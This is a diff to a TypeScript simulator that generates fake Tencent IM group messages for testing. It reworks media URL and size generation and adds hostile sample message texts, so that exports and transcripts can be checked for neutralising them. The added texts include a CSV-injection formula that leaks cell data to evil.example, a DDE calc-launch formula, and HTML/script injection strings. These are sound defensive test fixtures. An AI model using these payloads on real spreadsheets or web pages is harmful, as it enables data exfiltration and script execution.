@@ -7,6 +7,13 @@
  */
 import type { JsonObject, JsonValue, RawMessage } from '../domain/tencent-types.ts';
 import { createPrng, hashString, hexString, intBetween, mix, type Prng, pick, unit } from './hash.ts';
+import {
+  foldSize,
+  type MediaUrlPlan,
+  mediaUrl,
+  SIM_MEDIA_MAX_BYTES,
+  type SimMediaKind,
+} from './media-files.ts';
 
 /** The element types of reference §5. */
 export const ELEMENT_TYPES = [
@@ -25,7 +32,7 @@ export type ElementType = (typeof ELEMENT_TYPES)[number];
 /** What the history API does with a stored seq. */
 export type MessageFate = 'normal' | 'deleted' | 'recalled';
 
-/** Default media host; looks like the COS buckets in the reference samples but is never fetched. */
+/** Media host when no media listener serves the files; looks like the reference's COS hosts. */
 export const DEFAULT_MEDIA_BASE_URL = 'https://sim-im-1400000000.cos.ap-shanghai.myqcloud.com';
 
 /** Everything about a message stream (a group, or one topic of a group) needed to build its messages. */
@@ -36,7 +43,13 @@ export interface MessageStreamKey {
   groupHash: number;
   /** hashString(topicId ?? groupId): drives per-message randomness. */
   keyHash: number;
-  mediaBaseUrl: string;
+  /** How media URLs and declared sizes are made. */
+  media: MediaUrlPlan;
+}
+
+/** A URL plan for `baseUrl` with no disallowed host and realistic sizes. */
+export function mediaPlanFor(baseUrl: string = DEFAULT_MEDIA_BASE_URL): MediaUrlPlan {
+  return { baseUrl, disallowedBaseUrl: undefined, disallowedHostFraction: 0, maxBytes: SIM_MEDIA_MAX_BYTES };
 }
 
 /** Builds the stream key for `groupId` (and optionally one of its topics). */
@@ -51,7 +64,7 @@ export function streamKey(
     groupId,
     groupHash: hashString(groupId),
     keyHash: hashString(topicId ?? groupId),
-    mediaBaseUrl: mediaBaseUrl ?? DEFAULT_MEDIA_BASE_URL,
+    media: mediaPlanFor(mediaBaseUrl),
   };
 }
 
@@ -123,6 +136,14 @@ const TEXTS: readonly string[] = [
   'e\u0301 combining accent, zero\u200bwidth space',
   '한국어 메시지입니다 🙂',
   '',
+  // Hostile content (users write anything): spreadsheet formulas (CSV injection) and HTML/script
+  // injection, which exports and transcripts must neutralise.
+  '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3 minus first',
+  '<script>document.title="pwned"</script><img src=x onerror="document.title=\'pwned\'">',
+  '</div></section><a href="javascript:alert(1)">click</a><style>body{display:none}</style>',
 ];
 const LONG_TEXT_UNIT =
   '这是一段很长的消息，用来测试分页的字节上限。Long message body for page-size limits. 🚀 ';
@@ -239,11 +260,23 @@ function isLegacy(random: Prng): boolean {
   return random() < 0.15;
 }
 
+/** The URL of one file, with its declared size folded into the plan's maximum. */
+function fileUrl(
+  key: MessageStreamKey,
+  kind: SimMediaKind,
+  fileId: string,
+  size: number,
+  ext?: string,
+): string {
+  return mediaUrl(key.seed, key.media, kind, fileId, size, ext);
+}
+
 function soundContent(random: Prng, key: MessageStreamKey): JsonObject {
   const uuid = hexString(random, 32);
-  const base = { UUID: uuid, Size: intBetween(random, 2_000, 400_000), Second: intBetween(random, 1, 60) };
+  const size = foldSize(intBetween(random, 2_000, 400_000), key.media);
+  const base = { UUID: uuid, Size: size, Second: intBetween(random, 1, 60) };
   if (isLegacy(random)) return base;
-  return { Url: `${key.mediaBaseUrl}/sound/${uuid}.m4a`, ...base, Download_Flag: 2 };
+  return { Url: fileUrl(key, 'sound', uuid, size, 'm4a'), ...base, Download_Flag: 2 };
 }
 
 function imageContent(random: Prng, key: MessageStreamKey): JsonObject {
@@ -251,13 +284,16 @@ function imageContent(random: Prng, key: MessageStreamKey): JsonObject {
   const width = intBetween(random, 200, 4000);
   const height = intBetween(random, 200, 4000);
   const size = intBetween(random, 20_000, 5_000_000);
-  const info = (type: number, scale: number): JsonObject => ({
-    Type: type,
-    Size: Math.max(1, Math.round(size * scale * scale)),
-    Width: Math.max(1, Math.round(width * scale)),
-    Height: Math.max(1, Math.round(height * scale)),
-    URL: `${key.mediaBaseUrl}/image/${uuid}_${type}.jpg`,
-  });
+  const info = (type: number, scale: number): JsonObject => {
+    const bytes = foldSize(Math.max(1, Math.round(size * scale * scale)), key.media);
+    return {
+      Type: type,
+      Size: bytes,
+      Width: Math.max(1, Math.round(width * scale)),
+      Height: Math.max(1, Math.round(height * scale)),
+      URL: fileUrl(key, 'image', `${uuid}_${type}`, bytes, 'jpg'),
+    };
+  };
   return {
     UUID: uuid,
     ImageFormat: pick(random, [1, 2, 3, 4, 255]),
@@ -268,23 +304,25 @@ function imageContent(random: Prng, key: MessageStreamKey): JsonObject {
 function fileContent(random: Prng, key: MessageStreamKey): JsonObject {
   const uuid = hexString(random, 32);
   const name = pick(random, ['季度报告 Q3.pdf', 'notes.txt', 'résumé final (2).docx', 'archive.tar.gz']);
-  const base = { UUID: uuid, FileSize: intBetween(random, 100, 50_000_000), FileName: name };
+  const size = foldSize(intBetween(random, 100, SIM_MEDIA_MAX_BYTES), key.media);
+  const base = { UUID: uuid, FileSize: size, FileName: name };
   if (isLegacy(random)) return base;
-  return { Url: `${key.mediaBaseUrl}/file/${uuid}`, ...base, Download_Flag: 2 };
+  return { Url: fileUrl(key, 'file', uuid, size), ...base, Download_Flag: 2 };
 }
 
 function videoContent(random: Prng, key: MessageStreamKey): JsonObject {
   const videoUuid = hexString(random, 32);
   const thumbUuid = hexString(random, 32);
   const legacy = isLegacy(random);
+  const videoSize = foldSize(intBetween(random, 100_000, SIM_MEDIA_MAX_BYTES), key.media);
   const video: JsonObject = {
     VideoUUID: videoUuid,
-    VideoSize: intBetween(random, 100_000, 200_000_000),
+    VideoSize: videoSize,
     // Web clients cannot read the duration and send 0 (reference §5).
     VideoSecond: random() < 0.1 ? 0 : intBetween(random, 1, 600),
     VideoFormat: 'mp4',
     ThumbUUID: thumbUuid,
-    ThumbSize: intBetween(random, 5_000, 300_000),
+    ThumbSize: foldSize(intBetween(random, 5_000, 300_000), key.media),
     ThumbWidth: intBetween(random, 100, 1080),
     ThumbHeight: intBetween(random, 100, 1920),
     ThumbFormat: 'JPG',
@@ -292,9 +330,9 @@ function videoContent(random: Prng, key: MessageStreamKey): JsonObject {
   if (legacy) return video;
   return {
     ...video,
-    VideoUrl: `${key.mediaBaseUrl}/video/${videoUuid}.mp4`,
+    VideoUrl: fileUrl(key, 'video', videoUuid, videoSize, 'mp4'),
     VideoDownloadFlag: 2,
-    ThumbUrl: `${key.mediaBaseUrl}/video/${thumbUuid}.jpg`,
+    ThumbUrl: fileUrl(key, 'thumb', thumbUuid, video.ThumbSize as number, 'jpg'),
     ThumbDownloadFlag: 2,
   };
 }
